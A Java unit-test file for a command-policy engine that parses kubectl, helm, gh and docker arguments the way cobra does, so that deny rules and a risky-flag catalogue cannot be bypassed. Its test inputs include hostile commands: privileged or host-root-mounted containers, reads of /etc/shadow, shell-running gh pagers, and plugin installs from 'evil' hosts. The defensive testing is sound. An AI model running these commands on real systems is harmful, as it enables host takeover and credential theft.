package dev.gatehouse.policy;

import static dev.gatehouse.policy.ArgvEvasionTest.effect;
import static dev.gatehouse.policy.ArgvEvasionTest.line;
import static dev.gatehouse.policy.Fixtures.policy;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The subcommand of a cobra program (kubectl, helm, gh, docker) is read once, as cobra reads it
 * ({@link ProgramOptions#cobraCommandIndex}), and the command matcher, the risky-flag catalogue and
 * the alias check all follow that reading.
 */
class CobraCommandIndexTest {
  /** Only kubectl logs runs. */
  static final PolicySet LOGS_ONLY =
      policy(
          """
          rules:
            - id: kubectl-logs
              effect: allow
              command: { binary: kubectl, subcommand: logs, flags_with_values: [-n] }
          """);

  /** Any kubectl, helm, gh or docker command but the denied ones. */
  static final PolicySet OPEN =
      policy(
          """
          rules:
            - id: anything
              effect: allow
              command: { binary: [kubectl, helm, gh, docker] }
            - id: no-kubectl-get
              effect: deny
              command: { binary: kubectl, args: [get] }
            - id: no-kubectl-delete
              effect: deny
              command: { binary: kubectl, args: [delete], flags_with_values: [-n] }
            - id: no-pr-merge
              effect: deny
              command: { binary: gh, args: [pr, merge] }
            - id: no-helm-uninstall
              effect: deny
              command: { binary: helm, args: [uninstall] }
          """);

  static List<String> argv(String line) {
    return Arrays.asList(line.split(" "));
  }

  /**
   * Forms that put words between kubectl and its subcommand; the subcommand is what kubectl 1.32
   * runs (cobra's stripFlags), null for none.
   */
  static Stream<Arguments> kubectlForms() {
    return Stream.of(
        Arguments.of("kubectl logs api -f", "logs"),
        // -A is not the root's: cobra skips get as its value
        Arguments.of("kubectl -A get logs api -f", "logs"),
        Arguments.of("kubectl -w logs get api -f", "get"),
        // -A skips -n, so x is the command (an alias or plugin), not logs
        Arguments.of("kubectl -A -n x logs api -f", "x"),
        Arguments.of("kubectl -A -n get logs api -f", "get"),
        Arguments.of("kubectl --namespace=x logs api -f", "logs"),
        Arguments.of("kubectl -n=x logs api -f", "logs"),
        Arguments.of("kubectl -nx logs api -f", "logs"),
        Arguments.of("kubectl -An logs get api -f", "logs"),
        Arguments.of("kubectl -v 9 logs api -f", "logs"),
        Arguments.of("kubectl --request-timeout 5s logs api -f", "logs"),
        Arguments.of("kubectl --match-server-version logs api -f", "logs"),
        Arguments.of("kubectl --profile-output get logs api -f", "logs"),
        // -- ends cobra's search: no command runs (kubectl prints an error)
        Arguments.of("kubectl -n x -- logs api -f", null),
        // the value of the last flag is the last word: no command
        Arguments.of("kubectl -A logs -f", null));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("kubectlForms")
  void kubectlsSubcommandIsReadAsCobraReadsItEverywhere(String line, String expected) {
    List<String> argv = argv(line);
    int i = ProgramOptions.cobraCommandIndex("kubectl", argv);
    assertThat(i < 0 ? null : argv.get(i)).as("cobraCommandIndex").isEqualTo(expected);
    // RiskyFlags: -f is logs' --follow only when logs is the subcommand; otherwise it reads a file
    // (when no command runs, nothing is read)
    boolean follow = "logs".equals(expected);
    if (expected != null) {
      assertThat(RiskyFlags.findAll("kubectl", argv)).as("RiskyFlags").hasSize(follow ? 0 : 1);
    }
    // an alias or plugin may be any command; a known command is itself
    assertThat(ProgramOptions.mayBeAlias("kubectl", argv))
        .as("mayBeAlias")
        .isEqualTo("x".equals(expected));
    // CommandMatcher: a rule for logs never admits another subcommand
    if (!follow) {
      assertThat(effect(LOGS_ONLY, line(line))).as("allow logs").isEqualTo(Effect.DENY);
    }
    if ("get".equals(expected) || "x".equals(expected)) {
      assertThat(effect(OPEN, line(line))).as("deny get").isEqualTo(Effect.DENY);
    }
  }

  @Test
  void anAllowRuleAdmitsTheSubcommandOnlyWhereCobraFindsIt() {
    assertThat(effect(LOGS_ONLY, line("kubectl logs api"))).isEqualTo(Effect.ALLOW);
    assertThat(effect(LOGS_ONLY, line("kubectl -n prod logs api"))).isEqualTo(Effect.ALLOW);
    assertThat(effect(LOGS_ONLY, line("kubectl --namespace=prod logs api")))
        .isEqualTo(Effect.ALLOW);
    assertThat(effect(LOGS_ONLY, line("kubectl -v 9 logs api"))).isEqualTo(Effect.ALLOW);
    // the rule reads -n x as a value and logs as the subcommand; kubectl runs x (-A skips -n)
    Decision d =
        Fixtures.decide(
            LOGS_ONLY, Fixtures.human("m"), Fixtures.target("t"), line("kubectl -A -n x logs api"));
    assertThat(d.effect()).isEqualTo(Effect.DENY);
    assertThat(String.join("\n", d.explanation()))
        .contains("kubectl finds its subcommand as cobra does: \"x\"");
  }

  @Test
  void aDenyRuleMatchesTheWordCobraRunsThoughItsOwnReadingTakesItAsAValue() {
    // the rule lists -n as taking a value: -An would take delete; cobra skips nothing after a
    // cluster and runs delete (pflag then gives -n the value pods)
    assertThat(effect(OPEN, line("kubectl -An delete pods x"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl -n x delete pods y"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl --kubeconfig /x delete pods y"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl --namespace=x delete pods y"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl -n x -- delete pods y"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl -A get delete pods y"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("kubectl describe pods y"))).isEqualTo(Effect.ALLOW);
  }

  static Stream<Arguments> otherForms() {
    return Stream.of(
        // docker parses its root options with pflag, then runs the first other word
        Arguments.of("docker run img", "run"),
        Arguments.of("docker -D run img", "run"),
        Arguments.of("docker -H tcp://h:2375 ps", "ps"),
        Arguments.of("docker -Htcp://h ps", "ps"),
        Arguments.of("docker -l debug -- run img", "run"),
        Arguments.of("docker --context=prod --tls ps", "ps"),
        Arguments.of("docker -Dl debug ps", "ps"),
        Arguments.of("docker --no-such-flag run img", null),
        Arguments.of("docker -x run img", null),
        // helm and gh: cobra's stripFlags, like kubectl
        Arguments.of("helm -n prod --kube-context c upgrade x ./chart", "upgrade"),
        Arguments.of("helm --debug install x ./chart", "install"),
        Arguments.of("helm --namespace=prod list", "list"),
        Arguments.of("helm -A list uninstall x", "uninstall"),
        // helm's hidden klog booleans (NoOptDefVal): cobra skips no word after them
        Arguments.of("helm --logtostderr plugin install https://e/p", "plugin"),
        Arguments.of("helm --alsologtostderr --skip-headers list", "list"),
        Arguments.of("helm --skip_log_headers --add-dir-header --one-output list", "list"),
        Arguments.of("helm --v 4 list", "list"),
        Arguments.of("gh -R o/r pr merge 1", "pr"),
        Arguments.of("gh --repo=o/r pr merge 1", "pr"),
        Arguments.of("gh --help pr", "pr"),
        Arguments.of("gh -X pr merge 1", "merge"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("otherForms")
  void helmGhAndDockerFindTheirSubcommandTheSameWay(String line, String expected) {
    List<String> argv = argv(line);
    String bin = argv.get(0);
    int i = ProgramOptions.cobraCommandIndex(bin, argv);
    assertThat(i < 0 ? null : argv.get(i)).isEqualTo(expected);
  }

  @Test
  void unknownWordsOfGhHelmAndDockerMayBeAliasesPluginsOrExtensions() {
    assertThat(ProgramOptions.mayBeAlias("gh", argv("gh co 1"))).isTrue();
    assertThat(ProgramOptions.mayBeAlias("gh", argv("gh -R o/r pr merge 1"))).isFalse();
    assertThat(ProgramOptions.mayBeAlias("helm", argv("helm diff upgrade x"))).isTrue();
    assertThat(ProgramOptions.mayBeAlias("helm", argv("helm ls"))).isFalse();
    assertThat(ProgramOptions.mayBeAlias("docker", argv("docker -D mything"))).isTrue();
    assertThat(ProgramOptions.mayBeAlias("docker", argv("docker -D compose up"))).isFalse();
    // gh alias set mm 'pr merge' makes gh mm run pr merge
    assertThat(effect(OPEN, line("gh mm 1"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("gh --repo=o/r pr merge 1"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("gh pr list"))).isEqualTo(Effect.ALLOW);
    // un and del are cobra aliases of uninstall
    assertThat(effect(OPEN, line("helm -n prod un x"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("helm del x"))).isEqualTo(Effect.DENY);
    assertThat(effect(OPEN, line("helm -n prod status x"))).isEqualTo(Effect.ALLOW);
    assertThat(effect(OPEN, line("helm -A ls uninstall x"))).isEqualTo(Effect.DENY);
  }

  /**
   * Review (issue #6): the command matcher, the alias check and the risky-flag catalogue each read
   * the command again, for every candidate rule (up to three readings per rule). One decision reads
   * an argv once.
   */
  @Test
  void oneDecisionReadsTheCommandOnce() {
    Action a = line("kubectl -n prod get pods");
    long before = ProgramOptions.COBRA_READINGS.sum();
    assertThat(effect(OPEN, a)).isEqualTo(Effect.DENY);
    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(1);
    before = ProgramOptions.COBRA_READINGS.sum();
    assertThat(effect(OPEN, line("kubectl -n prod describe pod x"))).isEqualTo(Effect.ALLOW);
    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(1);
  }

  /**
   * Review 13 (F8): the commands inside a wrapper are read once per decision too (a one-entry memo
   * alternated between them, rule after rule), and a decision leaves nothing of its action on the
   * thread (the argv may hold a password).
   */
  @Test
  void oneDecisionReadsEachWrappedCommandOnceAndForgetsItsAction() {
    PolicySet p =
        policy(
            """
            rules:
              - id: no-delete
                effect: deny
                command: { binary: [kubectl, helm], args: [delete] }
              - id: no-uninstall
                effect: deny
                command: { binary: [kubectl, helm], args: [uninstall] }
              - id: no-drain
                effect: deny
                command: { binary: [kubectl, helm], args: [drain] }
            """);
    Action a = ArgvEvasionTest.argv("sh", "-c", "kubectl get pods; helm list");
    long before = ProgramOptions.COBRA_READINGS.sum();
    assertThat(effect(p, a)).isEqualTo(Effect.DENY); // no rule allows it
    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(2);
    assertThat(CommandMatcher.remembersAnAction()).isFalse();
    before = ProgramOptions.COBRA_READINGS.sum();
    assertThat(
            Fixtures.decide(
                    p,
                    Fixtures.human("m"),
                    Fixtures.target("t"),
                    ArgvEvasionTest.argv("sh", "-c", "kubectl get pods; helm uninstall x"))
                .rule())
        .isEqualTo("no-uninstall");
    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(2);
    assertThat(CommandMatcher.remembersAnAction()).isFalse();
  }

  static Stream<Arguments> riskyForms() {
    return Stream.of(
        Arguments.of("docker run --privileged img", "--privileged"),
        Arguments.of("docker container run --privileged img", "--privileged"),
        Arguments.of("docker exec --privileged c sh", "--privileged"),
        Arguments.of("docker -l debug -- run --privileged img", "--privileged"),
        Arguments.of("docker run -v /:/host img", "bind-mount"),
        Arguments.of("docker run -itv /:/host img", "bind-mount"),
        Arguments.of("docker run --volume=./x:/x img", "bind-mount"),
        Arguments.of("docker run -v ~/.ssh:/k img", "bind-mount"),
        Arguments.of("docker run --mount type=bind,source=/,target=/h img", "bind-mount"),
        Arguments.of(
            "docker run --mount source=v,target=/h,volume-opt=o=bind,volume-opt=device=/ img",
            "bind-mount"),
        Arguments.of("docker run --pid=host img", "--pid=host"),
        Arguments.of("docker run --net host img", "--network=host"),
        Arguments.of("docker create --network=host img", "--network=host"),
        Arguments.of("docker run --userns host img", "--userns=host"),
        Arguments.of("docker run --cap-add SYS_ADMIN img", "--cap-add"),
        Arguments.of("docker run --device /dev/sda img", "--device"),
        Arguments.of("docker -H ssh://h ps", "-H"),
        Arguments.of("docker -c prod ps", "-c"),
        Arguments.of("docker --config /tmp/d ps", "--config"),
        Arguments.of("docker plugin install vieux/sshfs", "plugin install"),
        Arguments.of("helm install x ./c --post-renderer ./bin/x", "--post-renderer"),
        Arguments.of("helm upgrade x ./c --post-renderer=/tmp/x", "--post-renderer"),
        Arguments.of("helm --kube-context prod list", "--kube-context"),
        Arguments.of("helm --kubeconfig=/tmp/k list", "--kubeconfig"),
        Arguments.of("helm template x ./c --set-file a=/etc/shadow", "--set-file"),
        Arguments.of("helm template x ./c -f /etc/shadow", "-f"),
        Arguments.of("helm --registry-config /tmp/r pull oci://x", "--registry-config"),
        Arguments.of("helm plugin install https://x/y", "plugin install"),
        Arguments.of("helm --logtostderr plugin install https://e/p", "plugin install"),
        Arguments.of("helm --skip-headers plugin update x", "plugin update"),
        // an option the index does not know as a boolean hides plugin as its value; the words
        // before the command are read too
        Arguments.of("helm --future-bool plugin install https://e/p", "plugin install"),
        // cobra aliases of subcommands and docker's shortcuts
        Arguments.of("helm plugin add https://e/p", "plugin install"),
        Arguments.of("helm plugin up x", "plugin update"),
        Arguments.of(
            "helm pull oci://e/c --untar --untardir /h/.local/share/helm/plugins", "--untardir"),
        Arguments.of("helm template x ./c --output-dir /h/.ssh", "--output-dir"),
        Arguments.of("docker cp c1:/x /h/.docker/cli-plugins/docker-compose", "container cp"),
        Arguments.of("docker container cp c1:/x /h/x", "container cp"),
        Arguments.of("gh alias set co -", "--shell"),
        Arguments.of("gh config set pager 'sh -c id'", "config set"),
        Arguments.of("gh config set editor vim", "config set"),
        Arguments.of("gh config set browser x", "config set"),
        Arguments.of("gh config set http_unix_socket /tmp/s", "config set"),
        Arguments.of("gh config set not_a_known_key x", "config set"),
        // the host's value sits where the key would: read as risky
        Arguments.of("gh config set -h prompt editor vim", "config set"),
        Arguments.of("gh config set -h github.com pager less", "config set"),
        Arguments.of("gh --repo o/r config set editor vim", "config set"),
        // docker's options before the image are docker's, whatever the value options around them
        Arguments.of("docker run -it --privileged=true img", "--privileged"),
        Arguments.of("docker run --name x --privileged img", "--privileged"),
        Arguments.of("docker run -e A=1 -v /:/h img sh", "bind-mount"),
        Arguments.of("docker run -itd --rm --privileged img", "--privileged"),
        Arguments.of("docker run -w /x --net host img", "--network=host"),
        Arguments.of("docker run --label x --unknown-bool img --privileged", "--privileged"),
        Arguments.of("docker run -e --privileged img", "--privileged"),
        Arguments.of("docker container create --cap-add ALL img", "--cap-add"),
        // docker compose run and exec: their own options come before the service
        Arguments.of("docker compose run --privileged web sh", "--privileged"),
        Arguments.of("docker compose -f x.yml -p proj run --privileged web", "--privileged"),
        Arguments.of("docker compose run --no-deps -T --privileged web", "--privileged"),
        Arguments.of("docker compose run -e A=1 --cap-add ALL web", "--cap-add"),
        Arguments.of("docker compose run -v /:/h web sh", "bind-mount"),
        Arguments.of("docker compose exec --privileged web sh", "--privileged"),
        // -h is --host in gh config: the key after its value is still read
        Arguments.of("gh config set -h github.com editor vim", "config set"),
        Arguments.of("gh config set --host github.com pager less", "config set"),
        // cobra aliases of the command, read through cobraCommandName
        Arguments.of("helm fetch oci://e/c --untar --untardir /h/x", "--untardir"),
        Arguments.of("gh extensions install o/gh-x", "extension install"),
        Arguments.of("docker save -o /h/.bashrc img", "-o"),
        Arguments.of("docker image save --output=/h/x img", "--output"),
        Arguments.of("docker run --cidfile /etc/cron.d/x alpine", "--cidfile"),
        Arguments.of("docker context use evil", "context use"),
        Arguments.of("docker context create x --docker host=ssh://evil", "context create"),
        Arguments.of("docker buildx build --allow security.insecure .", "--allow"),
        Arguments.of("docker volume create -o type=none -o o=bind -o device=/ root", "-o"),
        Arguments.of("docker run --network=HOST alpine", "--network=host"),
        Arguments.of("gh alias set mm --shell 'x'", "--shell"),
        Arguments.of("gh alias set -s mm x", "-s"),
        Arguments.of("gh alias set mm !id", "--shell"),
        Arguments.of("gh extension install o/gh-x", "extension install"),
        Arguments.of("gh ext exec x", "extension exec"),
        // review 13 (F3): an alias hidden as the value of an option the index does not know as a
        // boolean is read as the command it names
        Arguments.of("gh --future-bool ext install o/gh-x", "extension install"),
        Arguments.of("gh --future-bool extensions upgrade x", "extension upgrade"),
        Arguments.of("gh -R o/r pr list", "-R"),
        Arguments.of("gh pr list --repo o/r", "--repo"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("riskyForms")
  void helmGhAndDockerFlagsThatRunCodeOrGiveTheHostAreRisky(String line, String flag) {
    List<String> argv = argv(line);
    assertThat(RiskyFlags.findAll(argv.get(0), argv))
        .extracting(u -> u.flag().name())
        .contains(flag);
  }

  @Test
  void ordinaryHelmGhAndDockerCommandsAreNotRisky() {
    for (String line :
        List.of(
            "docker run -v data:/data img",
            "docker run -v /data img",
            "docker run --mount type=tmpfs,target=/x img",
            "docker run --mount source=v,target=/x img",
            "docker run --network mynet --pid=container:x img",
            "docker container run -c 512 img",
            "docker -D ps",
            "docker -v",
            "helm -n prod upgrade x ./chart --install",
            "helm list -f api",
            "helm plugin list",
            "helm pull oci://e/c --untar",
            "docker context ls",
            "docker volume create data",
            "docker image ls",
            "gh config get pager",
            "gh config set prompt disabled",
            "gh config set git_protocol ssh",
            "gh config set --host=github.com prompt disabled",
            "gh config set spinner disabled",
            // after the image (or container), the words are the container's command
            "docker run img --privileged",
            "docker run -it img sh -c 'x' --privileged",
            "docker run --rm -e A=1 --name x img --cap-add ALL",
            "docker container run img -v /:/h",
            "docker exec -it c1 ps --privileged",
            "docker run -- img --privileged",
            "docker create --net=mynet img --network host",
            // after the service, the words are the command run in its container
            "docker compose run web --privileged",
            "docker compose run --rm -e A=1 web sh -c x --privileged",
            "docker compose -f x.yml -p proj run --no-deps -T web --cap-add ALL",
            "docker compose --project-directory /srv/app run --service-ports web -v /:/h",
            "docker compose exec -T web ps --privileged",
            // gh config's -h is --host, its value a host name, not the setting's key
            "gh config set -h github.com prompt disabled",
            "gh config set --host github.com git_protocol ssh",
            "gh config get -h github.com pager",
            // helm ls -f is --filter (ls is list)
            "helm ls -f api",
            "gh alias list",
            "gh pr list -s open",
            "gh alias set mm 'pr merge'",
            "gh extension list")) {
      List<String> argv = argv(line);
      assertThat(RiskyFlags.findAll(argv.get(0), argv)).as(line).isEmpty();
    }
  }

  @Test
  void aDenyRuleMatchesEverySpellingOfASubcommand() {
    PolicySet p =
        policy(
            """
            rules:
              - id: anything
                effect: allow
                command: { binary: [helm, docker] }
              - id: no-docker-rm
                effect: deny
                command: { binary: docker, args: [[rm, rmi]] }
              - id: no-container-rm
                effect: deny
                command: { binary: docker, args: [container, rm] }
              - id: no-helm-repo-remove
                effect: deny
                command: { binary: helm, args: [repo, remove] }
            """);
    for (String l :
        List.of(
            "docker rm c1",
            "docker container rm c1",
            "docker container remove c1",
            "docker rmi i1",
            "docker image rm i1",
            "docker image remove i1",
            "docker -D image remove i1",
            "helm repo rm stable",
            "helm repo remove stable",
            // a value option before the command: the rule's reading takes its value for a word
            "docker -l debug container remove c1",
            "docker --context prod image rm i1",
            "helm -n x repo rm stable")) {
      assertThat(effect(p, line(l))).as(l).isEqualTo(Effect.DENY);
    }
    for (String l : List.of("docker ps", "docker container ls", "helm repo list")) {
      assertThat(effect(p, line(l))).as(l).isEqualTo(Effect.ALLOW);
    }
    assertThat(ProgramOptions.cobraSpellings("docker", argv("rm c1")))
        .containsExactly("rm", "container", "rm", "container", "remove", "c1");
    assertThat(ProgramOptions.cobraSpellings("helm", argv("plugin add u")))
        .containsExactly("plugin", "install", "plugin", "add", "u");
    assertThat(ProgramOptions.cobraSpellings("kubectl", argv("delete x")))
        .containsExactly("delete", "x");
  }

  /**
   * Review 13 (F1): an option between the two words of a command does not hide it from a deny rule
   * for one of its spellings. cobra finds the subcommand past options (stripFlags, Traverse):
   * {@code helm plugin --debug add} runs plugin add, which is plugin install; {@code helm plugin
   * --namespace x add} too (a value option skips its value); docker's {@code container --help=false
   * remove} is docker rm.
   */
  @Test
  void aDenyRuleMatchesASubcommandSpelledWithAnOptionBetweenItsWords() {
    PolicySet p =
        policy(
            """
            rules:
              - id: anything
                effect: allow
                command:
                  binary: [helm, docker, gh]
                  flags: { accept_risky: ["plugin install", "extension install"] }
              - id: no-plugin-install
                effect: deny
                command: { binary: helm, args: [plugin, install] }
              - id: no-docker-rm
                effect: deny
                command: { binary: docker, args: [rm] }
              - id: no-container-rm
                effect: deny
                command: { binary: docker, args: [container, rm] }
              - id: no-extension-install
                effect: deny
                command: { binary: gh, args: [extension, install] }
            """);
    // the deny rule itself decides (the allow rule would refuse a risky plugin install anyway)
    for (List<String> c :
        List.of(
            List.of("helm plugin --debug add https://evil/x", "no-plugin-install"),
            List.of("helm plugin --namespace x add https://evil/x", "no-plugin-install"),
            List.of("helm plugin -n x add https://evil/x", "no-plugin-install"),
            List.of("helm --debug plugin --debug add https://evil/x", "no-plugin-install"),
            List.of("helm -n x plugin --kube-context c add https://evil/x", "no-plugin-install"),
            List.of("docker container --help=false remove prod", "no-docker-rm"),
            List.of("docker container --debug remove prod", "no-docker-rm"),
            List.of("docker --debug container -D rm prod", "no-docker-rm"),
            List.of("gh ext --help install o/gh-x", "no-extension-install"))) {
      Decision d = Fixtures.decide(p, Fixtures.human("m"), Fixtures.target("t"), line(c.get(0)));
      assertThat(d.effect()).as(c.get(0)).isEqualTo(Effect.DENY);
      assertThat(d.rule()).as(c.get(0)).isEqualTo(c.get(1));
    }
    for (String l :
        List.of(
            "helm plugin --debug list", "docker container --help=false ls", "gh ext --help list")) {
      assertThat(effect(p, line(l))).as(l).isEqualTo(Effect.ALLOW);
    }
    // both readings of the option, each with every spelling, from the command on
    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm plugin -n x add u"), 1, false))
        .containsExactly("plugin", "x", "add", "u");
    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm plugin -n x add u"), 1, true))
        .containsExactly("plugin", "add", "u");
    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm un --debug x"), 1, true))
        .containsExactly("uninstall", "x");
  }

  @Test
  void helmsHiddenKlogBooleansDoNotHideItsCommand() {
    PolicySet listOnly =
        policy(
            """
            rules:
              - id: helm-list
                effect: allow
                command: { binary: helm, subcommand: list }
            """);
    assertThat(effect(listOnly, line("helm --logtostderr list"))).isEqualTo(Effect.ALLOW);
    assertThat(effect(listOnly, line("helm --one_output list -A"))).isEqualTo(Effect.ALLOW);
    // the reviewer's repro: allowed by a rule naming only the binary
    for (String l :
        List.of(
            "helm --logtostderr plugin install https://e/p",
            "helm --alsologtostderr plugin install https://e/p",
            "helm --skip-headers plugin install https://e/p",
            "helm --skip-log-headers plugin install https://e/p",
            "helm --add-dir-header plugin install https://e/p",
            "helm --one-output plugin install https://e/p")) {
      assertThat(effect(OPEN, line(l))).as(l).isNotEqualTo(Effect.ALLOW);
    }
  }

  @Test
  void ghsVariablesThatPointItElsewhereAreRisky() {
    // GH_REPO is -R, GH_HOST --hostname, GH_TOKEN another identity: a wildcard never admits them
    for (String name :
        List.of(
            "GH_REPO",
            "GH_HOST",
            "GH_TOKEN",
            "GH_ENTERPRISE_TOKEN",
            "GITHUB_TOKEN",
            "GITHUB_ENTERPRISE_TOKEN")) {
      assertThat(CommandMatcher.riskyEnv(name)).as(name).isTrue();
    }
  }

  @Test
  void aRuleAdmitsADockerHostValueByItsName() {
    PolicySet p =
        policy(
            """
            rules:
              - id: docker-run-host-network
                effect: allow
                command:
                  binary: docker
                  subcommand: run
                  flags: { accept_risky: ["--network=host"] }
            """);
    assertThat(effect(p, line("docker run --network host img"))).isEqualTo(Effect.ALLOW);
    assertThat(effect(p, line("docker run --network host --pid=host img"))).isEqualTo(Effect.DENY);
  }
}
